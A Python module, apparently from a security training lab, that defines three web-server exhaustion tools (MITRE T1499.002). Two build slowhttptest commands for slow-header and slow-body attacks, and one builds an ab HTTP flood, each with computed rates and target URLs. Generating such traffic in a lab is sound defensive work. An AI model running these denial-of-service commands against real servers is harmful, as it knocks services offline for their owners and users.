"""Exhaustion of a web server by requests: slow ones (slowhttptest) and many (ab)."""

from typing import Final

from training.lab.attacks.tool import Order, Tool, addresses, in_urls, straight
from training.lab.place import Place
from training.lab.traffic import tcp

EXHAUSTION: Final = "T1499.002"


def _slow(kind: str, place: Place, order: Order) -> list[list[str]]:
    """rate connections a second, at most packets / 20 of them, each kept open by a little now and then."""
    connections = str(max(1, order.packets // 20))
    pace = ["-c", connections, "-r", str(max(1, round(order.rate))), "-i", "8", "-l", f"{order.for_s:.0f}"]
    url = f"http://{addresses(place, order)[0]}/"
    return [["slowhttptest", kind, *pace, "-x", "20", "-p", "5", "-u", url]]


def _many(place: Place, order: Order) -> list[list[str]]:
    """packets requests at most, each by a connection of its own, as fast as they go."""
    options = ["-n", str(order.packets), "-c", str(max(1, min(50, round(order.rate)))), "-s", "10", "-r"]
    return [["ab", "-q", *options, f"http://{in_urls(place, order)[0]}/page-0.html"]]


_SLOWHTTPTEST: Final = (("slowhttptest",), ("slowhttptest",))

EXHAUSTIONS: Final = (
    Tool(
        "slow-headers",
        "requests whose headers never end",
        EXHAUSTION,
        *_SLOWHTTPTEST,
        lambda place, order: _slow("-H", place, order),
        straight(tcp(80)),
        service="http",
    ),
    Tool(
        "slow-bodies",
        "requests whose bodies never end",
        EXHAUSTION,
        *_SLOWHTTPTEST,
        lambda place, order: _slow("-B", place, order),
        straight(tcp(80)),
        service="http",
    ),
    Tool(
        "http-flood",
        "many requests",
        EXHAUSTION,
        ("apache2-utils",),
        ("ab",),
        _many,
        straight(tcp(80)),
        service="http",
        ipv6=True,
    ),
)
